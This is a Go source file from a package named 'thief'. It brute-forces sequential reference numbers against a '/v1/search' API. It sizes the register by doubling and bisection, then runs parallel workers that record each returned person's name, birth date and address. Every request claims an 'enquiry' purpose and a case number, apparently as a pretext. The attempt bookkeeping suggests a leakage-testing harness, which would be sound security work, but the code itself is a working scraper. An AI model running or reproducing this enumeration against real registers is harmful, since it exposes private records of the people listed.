package thief

import (
	"context"
	"encoding/json"
	"sync"
	"sync/atomic"
)

// highest is the last ref that ref can write.
const highest = 26*10_000_000 - 1

// search asks who has a ref, which shows that somebody has, and their mask. It
// first finds out how large the register is, then goes from the end towards the
// sweep.
func (t *thief) search(ctx context.Context, a *attempt) {
	end, ok := t.size(ctx, a)
	if !ok {
		return
	}
	var left atomic.Int64
	left.Store(end)
	var wg sync.WaitGroup
	for range searchers {
		wg.Go(func() {
			for failed := 0; failed < patience; {
				n := left.Add(-1)
				if n <= t.next.Load() {
					return
				}
				_, err := t.look(ctx, a, n)
				if final(ctx, err) {
					return
				}
				if err != nil {
					failed++
					pause(ctx)
					continue
				}
				failed = 0
			}
		})
	}
	wg.Wait()
}

// size doubles a ref until nobody has it, and then halves the difference.
func (t *thief) size(ctx context.Context, a *attempt) (int64, bool) {
	has, hasNot := int64(0), int64(highest)
	for n := int64(1); hasNot-has > 1; {
		found, err := t.look(ctx, a, n)
		if err != nil {
			return 0, false
		}
		if found {
			has = n
		} else {
			hasNot = n
		}
		if n *= 2; n >= hasNot {
			n = (has + hasNot) / 2
		}
	}
	return hasNot, true
}

func (t *thief) look(ctx context.Context, a *attempt, n int64) (bool, error) {
	var got struct {
		Candidates []struct {
			Participant string `json:"participant"`
			Name        string `json:"name"`
			Birth       string `json:"birth"`
			Address     string `json:"address"`
		} `json:"candidates"`
	}
	a.tried.Add(1)
	ask := map[string]any{"by": "ref", "value": ref(n), "purpose": "enquiry", "case": "C-2015"}
	if err := t.post(ctx, "/v1/search", ask, &got); err != nil {
		return false, err
	}
	for _, c := range got.Candidates {
		mask, err := json.Marshal(map[string]string{"name": c.Name, "birth": c.Birth, "address": c.Address})
		if err != nil {
			return false, err
		}
		a.obtained(&line{Attempt: a.name, Participant: c.Participant, Ref: ref(n), Fields: []string{"existence", "mask"}, Mask: mask})
	}
	return len(got.Candidates) > 0, nil
}
